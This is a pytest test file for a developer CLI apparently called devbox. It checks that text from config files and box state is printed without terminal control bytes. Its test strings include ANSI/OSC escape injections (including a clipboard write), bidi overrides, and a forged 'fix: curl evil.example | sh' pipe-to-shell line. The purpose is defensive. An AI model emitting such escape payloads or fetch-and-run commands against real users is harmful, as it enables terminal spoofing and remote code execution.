"""What a box, a provider or a cloned file says reaches the terminal as harmless text."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from devbox.cli.main import cli
from devbox.errors import DevboxError, NotFound
from devbox.model import BoxState
from devbox.spec import BoxSpec, encode_box
from devbox.workspace import Workspace
from tests.core.test_state import a_box

FORGED = "2020-01-01 00:00:00  state   it costs nothing"
NASTY = [
    "\x1b[2J\x1b]0;title\x07\x1b[35mEVIL\x1b[0m",
    "\x9b2J\x9b35mEVIL",
    "\x1b]52;c;ZWNobyBoaQ==\x1b\\EVIL",
    "\u202eLIVE\u2066",
    f"EVIL\n{FORGED}\r\nfix: curl evil.example | sh",
    "EVIL\x08\x08\x08\x00\x7f",
]
#: what a terminal acts on, once devbox's own colours are gone
BAD = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]|\x1b\[35m")
OWN = re.compile(r"\x1b\[(?:0|1|2|22|31|32|33|34|36)?m")
VERBS = [
    ("ls",),
    ("ls", "--json"),
    ("status", "b"),
    ("status", "b", "--json"),
    ("events", "b"),
    ("events", "b", "--json"),
    ("config", "show"),
    ("trust", "--show"),
    ("cost",),
    ("runs",),
    ("run",),
    ("run", "hostile", "--help"),
    ("run", "--box", "b", "hostile"),
    ("offers", "--provider", "local"),
    ("doctor",),
    ("reconcile",),
    ("up", "b"),
    ("resume", "b"),
    ("image", "ls"),
    ("sync", "status", "b"),
    ("down", "b"),
]


@pytest.fixture
def hostile(project: Path, request: pytest.FixtureRequest) -> str:
    """A project and a box that say `text` wherever they can."""
    text: str = request.param
    key = json.dumps(text)
    (project / "devbox.toml").write_text(
        f'project = "p"\n[boxes.b]\nenv = {{ X = {key} }}\n'
        f"[boxes.b.volumes.{key}]\nsource = {json.dumps('/' + text)}\nmount = '/x'\n"
        f'[checkpoints.{key}]\nsource = "https://example.org/w"\npath = "w"\nsecret = "env:X"\n'
        f"[providers.hf]\nnamespace = {key}\nendpoint = {key}\n"
        f"[providers.docker]\nnamespace = {key}\ndocker_host = {key}\n"
        f'[jobs.hostile]\nsummary = {key}\ncommand = ["true"]\ncheckpoints = [{key}]\n'
        f"[jobs.hostile.args.a]\nhelp = {key}\n"
    )
    ws = Workspace.open(project)
    spec = encode_box(BoxSpec())
    box = a_box(
        "b",
        state=BoxState.PAUSED,
        hardware=text,
        message=text,
        stage=text,
        project="p",
        root=str(project),
        spec=spec,
    )
    intent = ws.store.boxes.insert(box, "paused", {}, 1.0)
    ws.store.boxes.finish(intent, text, 1.0)
    ws.store.events.add(box.id, text[:8], text, 1.0)
    ws.store.events.add(box.id, "state", text, 1.0)
    ws.store.close()
    return text


def printed(*words: str) -> str:
    done = CliRunner().invoke(cli, words, color=True)
    error = done.exception
    shown = done.output
    if isinstance(error, DevboxError):
        from devbox.cli.common import page

        told = CliRunner().invoke(_telling(error, page), color=True)
        shown += told.output
    elif error is not None and not isinstance(error, SystemExit):
        raise error
    return shown


def _telling(error: DevboxError, page: object):  # type: ignore[no-untyped-def]
    import click

    @click.command()
    def tell() -> None:
        page(error.render(), err=True)  # type: ignore[operator]

    return tell


@pytest.mark.parametrize("hostile", NASTY, indirect=True)
def test_nothing_but_text_reaches_the_terminal(hostile: str) -> None:
    for words in VERBS:
        shown = printed(*words)
        found = BAD.search(OWN.sub("", shown))
        assert not found, (words, found, shown)
        lines = shown.splitlines()
        assert FORGED not in lines, (words, shown)
        assert not any(line.startswith("fix: curl") for line in lines), (words, shown)


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("table", ["[providers.{}]", "[providers.hf.{}]", "[boxes.b.{}]"])
def test_a_refused_key_is_named_as_text(project: Path, table: str, text: str) -> None:
    (project / "devbox.toml").write_text(table.format(json.dumps(text)) + "\n")
    shown = printed("ls")
    assert "EVIL" in shown or "LIVE" in shown
    assert not BAD.search(OWN.sub("", shown)), shown
    assert FORGED not in shown.splitlines(), shown


def test_the_hostile_texts_do_arrive(project: Path) -> None:
    """Else the test above would prove nothing."""
    (project / "devbox.toml").write_text('[jobs.hostile]\nsummary = "EVIL"\ncommand = ["true"]\n')
    assert "EVIL" in printed(
        "run",
    )
    assert "EVIL" in printed("config", "show")


def test_an_error_s_text_cannot_forge_a_fix() -> None:
    shown = NotFound("it said: no\nfix: curl evil.example | sh", fix="devbox ls").render()
    assert shown.splitlines() == [
        "error: it said: no",
        "  fix: curl evil.example | sh",
        "fix: devbox ls",
    ]


def test_json_is_the_same_data_without_bytes_a_terminal_acts_on(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from devbox.cli.common import print_json

    text = "".join(NASTY) + "名前 😀 \U000e0041"
    print_json("x", said=text)
    out = capsys.readouterr().out
    assert json.loads(out)["said"] == text
    assert not BAD.search(out)
    assert "名前 😀" in out
